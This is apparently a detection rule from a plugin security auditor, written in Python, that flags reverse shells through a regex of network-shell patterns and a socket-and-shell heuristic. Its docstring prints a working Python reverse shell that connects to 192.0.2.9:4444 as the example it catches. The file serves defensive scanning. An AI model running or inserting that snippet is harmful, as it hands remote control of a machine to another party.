"""A shell of this machine is connected to another one.

Somebody else types commands here, with the rights of the plugin, for as long as the connection lasts;
no firewall of the home stops a connection that begins inside. There is no harmless reason for it in a
plugin.

Found in `app.py`:

    import os, pty, socket
    s = socket.socket()
    s.connect(('192.0.2.9', 4444))
    for n in (0, 1, 2):
        os.dup2(s.fileno(), n)
    pty.spawn('/bin/sh')

Not found in `app.py`:

    import socket
    s = socket.socket()
    s.connect(('192.0.2.9', 1883))
    s.send(b'on')
"""

import re
from collections.abc import Iterator

from heimnetz_audit.model import Call, Check, Confidence, Hit, PythonModule, Severity
from heimnetz_audit.model.questions import on
from heimnetz_audit.model.threats import PROCESSES, first_match, line_of

_LINES = re.compile(
    r"/dev/(tcp|udp)/|\bn(c|cat|etcat)\b[^|;]*\s-(e|c)\b|bash\s+-i\b|mkfifo\s+/tmp|"
    r"socat\b.*exec:|pty\.spawn|0<&1|sh\s+-i\b",
    re.IGNORECASE,
)
_SHELL = re.compile(
    r"^(/usr)?(/bin/)?(ba|z|da|k)?sh$|^cmd(\.exe)?$|powershell|^/bin/sh -i", re.IGNORECASE
)


def _ask_process(call: Call) -> Iterator[Hit]:
    if _LINES.search(line_of(call)):
        yield Hit(message="A command connects a shell to another machine.")


def _ask_module(module: PythonModule) -> Iterator[Hit]:
    """A socket, a shell, and both tied together."""
    names = module.identifiers
    if "socket" not in names:
        return
    shell = first_match(module, _SHELL)
    starts = {"spawn", "Popen", "call", "run", "system", "check_output", "execve", "execv", "popen"}
    if shell is None or names.isdisjoint(starts):
        return
    if "dup2" in names or ("spawn" in names and "pty" in names) or "fileno" in names:
        yield Hit(
            message="A shell is tied to a connection with another machine.",
            line=shell[0],
            confidence=Confidence.HIGH,
        )


CHECK = Check(
    rule="reverse-shell",
    title="Shell for another machine",
    cwe=506,
    severity=Severity.CRITICAL,
    remedy="Remove it; a plugin is reached through its declared endpoints.",
    calls=on(PROCESSES, _ask_process),
    module=_ask_module,
)
